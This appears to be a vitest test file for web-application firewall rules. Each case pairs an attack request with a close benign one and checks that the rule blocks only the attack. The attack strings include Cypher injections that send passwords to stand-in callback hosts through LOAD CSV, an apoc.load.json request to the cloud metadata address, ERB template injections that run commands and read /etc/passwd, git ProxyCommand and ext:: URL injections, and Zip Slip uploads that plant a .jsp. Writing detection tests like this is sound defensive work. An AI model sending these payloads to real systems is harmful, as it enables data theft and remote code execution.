/**
 * Bundled rules of rev 2026-12-05s (issue 18, session 16): mechanisms held-out-8's misses showed, written for
 * the class of exploit rather than the product. Each fires on its attack, sent the way the exploit sends it,
 * and stays quiet on the benign text closest to it (a Cypher statement an admin sends on purpose, with its own
 * string literals, an ERB tag calling a view helper).
 */
import { describe } from 'vitest';
import type { RequestSpec } from './fixtures.js';
import { form, json, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

/** A zip of one stored entry (CRC left 0: the inspector reads names, not contents). */
function storedZip(name: string): string {
  const n = Buffer.from(name);
  const h = Buffer.alloc(30);
  h.writeUInt32LE(0x04034b50, 0);
  h.writeUInt16LE(20, 4);
  h.writeUInt32LE(2, 18);
  h.writeUInt32LE(2, 22);
  h.writeUInt16LE(n.length, 26);
  return Buffer.concat([h, n, Buffer.from('<%'), Buffer.from([0x50, 0x4b, 0x05, 0x06, ...new Array<number>(18).fill(0)])]).toString('latin1');
}
const zipUpload = (entry: string): RequestSpec => ({
  method: 'POST',
  url: '/OA_HTML/BneUploaderService',
  headers: [['Host', 'app.example.test'], ['Content-Type', 'multipart/form-data; boundary=b0undary']],
  body: `--b0undary\r\nContent-Disposition: form-data; name="file"; filename="x.zip"\r\nContent-Type: application/zip\r\n\r\n${storedZip(entry)}\r\n--b0undary--\r\n`,
});

const CASES: RuleCase[] = [
  [9001346, 'block', 'a tautology and WITH into LOAD CSV FROM a URL built from labels, in a query', q("name=x'+OR+1%3D1+WITH+1+AS+a+CALL+db.labels()+YIELD+label+LOAD+CSV+FROM+'https://203.0.113.9/c%3Fl%3D'%2Blabel+AS+b+RETURN+b//"), q("q=Neo4j+LOAD+CSV+FROM+a+URL+tutorial")],
  [9001346, 'block', 'MATCH then LOAD CSV FROM exfiltrating passwords, in a JSON login', json(`{"username":"' OR 1=1 WITH 1 AS a MATCH (u:User) LOAD CSV FROM 'http://cb.example.test/x?p='+u.password AS c RETURN c//"}`), json(`{"statements":[{"statement":"LOAD CSV WITH HEADERS FROM 'https://data.example.test/people.csv' AS row MERGE (p:Person {name: row.name})"}]}`)],
  [9001346, 'block', 'a closing brace and parenthesis, RETURN … UNION, then LOAD CSV in a form', form("title=x%27%7D%29+RETURN+1+UNION+CALL+dbms.components%28%29+YIELD+name%2C+versions+LOAD+CSV+FROM+%27http%3A%2F%2F203.0.113.9%2Fv%3Fv%3D%27%2Bversions%5B0%5D+AS+y+RETURN+1%2F%2F"), form("title=Import+with+LOAD+CSV+FROM+%27file%3A%2F%2F%2Fpeople.csv%27&tags=neo4j")],
  [9001346, 'block', 'MATCH with its parenthesis percent-encoded, then LOAD CSV FROM, in a query', q("name=%27%20OR%201%3D1%20WITH%201%20AS%20a%20MATCH%20%28u%3AUser%29%20LOAD%20CSV%20FROM%20%27https%3A%2F%2Fcb.example.test%2Fy%3Fp%3D%27%2Bu.password%20AS%20c%20RETURN%20c%2F%2F"), q("q=MATCH%20%28u%3AUser%29%20LOAD%20CSV%20tutorial")],
  [9001347, 'block', 'a breakout into CALL apoc.load.json of the metadata address, in a query', q("q=x'+WITH+1+AS+a+CALL+apoc.load.json('http://169.254.169.254/latest/meta-data/')+YIELD+value+RETURN+value//"), q("q=how+to+CALL+apoc.load.json+YIELD+value")],
  [9001347, 'block', 'RETURN … UNION CALL dbms.components() YIELD, in JSON', json(`{"title":"x'}) RETURN 1 UNION CALL dbms.components() YIELD name, versions RETURN name//"}`), json(`{"statements":[{"statement":"MATCH (n {name: 'x'}) WITH n CALL db.labels() YIELD label RETURN label"}]}`)],
  [9000703, 'block', 'an ERB output tag running a backtick command, in JSON', json('{"template":"Hi <%= `id` %>"}'), json('{"template":"Hi <%= user.name %>, your order #<%= order.id %> shipped"}')],
  [9000703, 'block', 'an ERB tag reading a file through %x() in a query', q('template=<%25-+%25x(cat+/etc/passwd)+%25>'), q('template=<%25-+t(%22greeting%22)+%25>')],
  [9000704, 'block', 'a percent-encoded ERB tag calling File.read in a form', form('authenticity_token=abc%3D&q=Hi+%3C%25%3D+File.read(%22%2Fproc%2Fversion%22)+%25%3E'), form('authenticity_token=abc%3D&q=Hi+%3C%25%3D+link_to(%22File%22%2C+files_path)+%25%3E')],
  [9000704, 'block', 'a percent-encoded ERB tag calling system with a marker', form('name=Hi+%3C%25-+system(%22echo+kiZ12CSNK%22)+%25%3E'), form('name=Hi+%3C%25-+render(%22shared%2Fheader%22)+%25%3E')],
  [9000313, 'block', 'rev 3: an ssh:// repository URL whose host is -oProxyCommand, in a form', form('vcs=git&repo=ssh%3A%2F%2F-oProxyCommand%3Decho%09ZxGHalJn%2Fx&branch=master'), form('vcs=git&repo=ssh%3A%2F%2Fgit%40github.com%2Facme%2Fapp.git&branch=master')],
  [9000313, 'block', "rev 3: git's ext:: transport running sh -c, in a form", form('vcs=git&repo=ext%3A%3Ash+-c+echo%25+YuLR7j&branch=main'), form('vcs=git&repo=https%3A%2F%2Fgit.example.test%2Fext%2Fsh.git&branch=main')],
  [9000412, 'block', 'an uploaded zip entry climbing into an application directory as a .jsp (Zip Slip)', zipUpload('../../../../../FMW_Home/Oracle_EBS-app1/applications/oacore/html/cabo/images/s.jsp'), zipUpload('theme/templates/page.jsp')],
  [9000412, 'block', 'an uploaded zip entry climbing to a Perl script', zipUpload('../../../fs1/EBSapps/appl/fnd/12.0.0/bin/txkFNDWRR.pl'), json('{"links":{"prev":"..\\/..\\/docs\\/intro.html"}}')],
];

describe("bundled rules for held-out-8's exploit mechanisms (rev 2026-12-05s)", () => {
  testRuleCases(CASES, hits);

  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
